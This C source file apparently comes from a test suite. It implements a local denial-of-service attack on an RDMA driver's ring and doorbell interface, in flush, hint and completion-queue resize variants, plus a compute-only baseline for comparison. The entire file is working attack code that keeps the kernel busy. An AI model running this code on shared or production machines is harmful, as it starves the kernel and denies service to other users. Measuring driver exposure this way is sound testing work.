// SPDX-License-Identifier: GPL-2.0
/*
 * A program that keeps the kernel busy for its own queues. Its QPs are in the error state and have rings of the largest
 * size. A thread on CPU 1 moves the tails of all rings ahead by as much as the kernel takes, without writing any slot;
 * a thread on CPU 0 rings doorbells.
 *
 *	flush	doorbells name the QPs
 *	hints	the ring of doorbell hints names the QPs, 256 at a time
 *	resize	a full completion queue changes its size again and again
 *	compute	no attack: both threads compute, so that the machine is as busy
 */
#define _GNU_SOURCE
#include "softirq_time.h"

#include <errno.h>
#include <pthread.h>
#include <rdma/ib_user_ioctl_cmds.h>
#include <rdma/rdma_user_ioctl_cmds.h>
#include <rdma/roan-abi.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#define MAX_QPS		ROAN_MAX_DOORBELL_QPS
#define MAX_RINGS	(3 * MAX_QPS + 1)
#define HINTS		256
#define CQES		65535

struct filled {
	struct roan_ring_ctl *ctl;
	uint32_t ahead;		/* the user's index is kept that far ahead of the kernel's */
};

static struct filled rings[MAX_RINGS];
static int n_rings;

static void keep_filled(void *ctl, uint32_t ahead)
{
	rings[n_rings] = (struct filled) { ctl, ahead };
	__atomic_store_n(&n_rings, n_rings + 1, __ATOMIC_RELEASE);
}

/* ---- finding the rings: each is at the start of a mapping, the second one of a QP behind the first one's slots ---- */

/* Returns a mapping of the uverbs file that has @size bytes or more and is not yet in @rings. */
static uint8_t *new_map(size_t size)
{
	FILE *f = fopen("/proc/self/maps", "r");
	unsigned long from, to;
	uint8_t *found = NULL;
	char line[512];
	int i;

	while (f && fgets(line, sizeof(line), f)) {
		if (!strstr(line, "/uverbs") || sscanf(line, "%lx-%lx", &from, &to) != 2 || to - from < size)
			continue;
		for (i = 0; i < n_rings && (void *)from != rings[i].ctl; i++)
			;
		if (i == n_rings)
			found = (void *)from;
	}
	if (f)
		fclose(f);
	if (!found)
		vt_die("no ring of %zu bytes among the mappings", size);
	return found;
}

static size_t ring_bytes(uint32_t slots, size_t slot_size)
{
	size_t line = sizeof(struct roan_user_line);

	return (sizeof(struct roan_ring_ctl) + slots * slot_size + line - 1) / line * line;
}

/* ---- the attack ---- */

static void *fill_thread(void *unused)
{
	int i;

	(void)unused;
	bind_to(1);
	for (;;) {
		for (i = 0; i < __atomic_load_n(&n_rings, __ATOMIC_ACQUIRE); i++) {
			struct roan_ring_ctl *ctl = rings[i].ctl;
			uint32_t head = __atomic_load_n(&ctl->kernel.index, __ATOMIC_ACQUIRE);

			__atomic_store_n(&ctl->user.index, head + rings[i].ahead, __ATOMIC_RELEASE);
		}
	}
	return NULL;
}

static int doorbell(struct ibv_context *ctx, const uint32_t *handles, int n)
{
	struct {
		struct ib_uverbs_ioctl_hdr hdr;
		struct ib_uverbs_attr attr;
	} call = {
		.hdr = { .length = n ? sizeof(call) : sizeof(call.hdr), .object_id = UVERBS_OBJECT_QP,
			 .method_id = ROAN_METHOD_QP_DOORBELL, .num_attrs = !!n, .driver_id = ROAN_DRIVER_ID },
		.attr = { .attr_id = ROAN_ATTR_QP_DOORBELL_HANDLES, .len = n * sizeof(*handles),
			  .flags = UVERBS_ATTR_F_MANDATORY },
	};

	if (n > 2)
		call.attr.data = (uintptr_t)handles;
	else
		memcpy(&call.attr.data, handles, n * sizeof(*handles));
	return ioctl(ctx->cmd_fd, RDMA_VERBS_IOCTL, &call) ? errno : 0;
}

static struct ibv_qp *failed_qp(struct vt_dev *d)
{
	size_t sq = ring_bytes(RING, sizeof(struct roan_send_wqe) + sizeof(struct roan_sge));
	struct ibv_cq *cq = ibv_create_cq(d->ctx, CQES, NULL, NULL, 0);
	struct vt_conn c = { .type = IBV_QPT_RC };
	struct ibv_qp *qp;
	uint8_t *map;

	if (!cq)
		vt_die("create_cq: %s", strerror(errno));
	keep_filled(new_map(CQES * sizeof(struct roan_cqe)), 0);	/* polled as soon as it is written */
	qp = make_qp(d, IBV_QPT_RC, cq, NULL, RING);
	map = new_map(sq);
	if (vt_qp_init(qp, &c) || set_state(qp, IBV_QPS_ERR))
		vt_die("modify_qp: %s", strerror(errno));
	keep_filled(map, RING);
	keep_filled(map + sq, RING);
	return qp;
}

static void ring_for_ever(struct vt_dev *d, const struct options *opt, struct roan_ring_ctl *hints)
{
	struct roan_db_hint *slots = (void *)(hints + 1);
	uint32_t handles[MAX_QPS];
	struct ibv_qp *qp;
	bool by_hint = !strcmp(opt->kind, "hints");
	int i, k;

	for (i = 0; i < opt->n; i++) {
		qp = failed_qp(d);
		handles[i] = qp->handle;
		for (k = i; by_hint && k < HINTS; k += opt->n)
			slots[k].qpn = qp->qp_num;
	}
	if (by_hint)
		keep_filled(hints, HINTS);
	for (;;) {
		int err = doorbell(d->ctx, handles, by_hint ? 0 : opt->n);

		if (err)
			vt_die("doorbell: %s", strerror(err));
	}
}

static void resize_for_ever(struct vt_dev *d)
{
	struct ibv_cq *cq = ibv_create_cq(d->ctx, CQES, NULL, NULL, 0);
	struct vt_conn c = { .type = IBV_QPT_RC };
	struct roan_ring_ctl *ctl;
	struct ibv_qp *qp;
	size_t sq = ring_bytes(RING, sizeof(struct roan_send_wqe) + sizeof(struct roan_sge));
	int err;

	if (!cq)
		vt_die("create_cq: %s", strerror(errno));
	keep_filled(new_map(CQES * sizeof(struct roan_cqe)), 0);	/* so that it is not taken for the QP's; nothing polls */
	qp = make_qp(d, IBV_QPT_RC, cq, NULL, RING);
	ctl = (void *)new_map(sq);
	if (vt_qp_init(qp, &c) || set_state(qp, IBV_QPS_ERR))
		vt_die("modify_qp: %s", strerror(errno));
	ctl->user.index += RING;
	err = doorbell(d->ctx, &qp->handle, 1);
	while (!err)
		err = ibv_resize_cq(cq, 2 * CQES + 1) ?: ibv_resize_cq(cq, CQES);
	vt_die("resize_cq: %s", strerror(err));
}

static void *compute_thread(void *cpu)
{
	bind_to(*(int *)cpu);
	for (;;)
		__asm__ volatile("" ::: "memory");
	return NULL;
}

int attack(const struct options *opt)
{
	struct roan_ring_ctl *hints;
	pthread_t filler;
	struct vt_dev d;

	if (opt->n < 1 || opt->n > MAX_QPS)
		vt_die("1 to %d QPs", MAX_QPS);
	if (!strcmp(opt->kind, "compute")) {
		int cpus[] = { 0, 1 };

		if (pthread_create(&filler, NULL, compute_thread, &cpus[1]))
			vt_die("no thread");
		compute_thread(&cpus[0]);
	}
	vt_open(&d, opt->dev, false, -1, 0);
	hints = (void *)new_map(ring_bytes(HINTS, sizeof(struct roan_db_hint)));
	if (strcmp(opt->kind, "resize") && pthread_create(&filler, NULL, fill_thread, NULL))
		vt_die("no thread");
	bind_to(0);
	if (!strcmp(opt->kind, "resize"))
		resize_for_ever(&d);
	else
		ring_for_ever(&d, opt, hints);
	return 0;
}
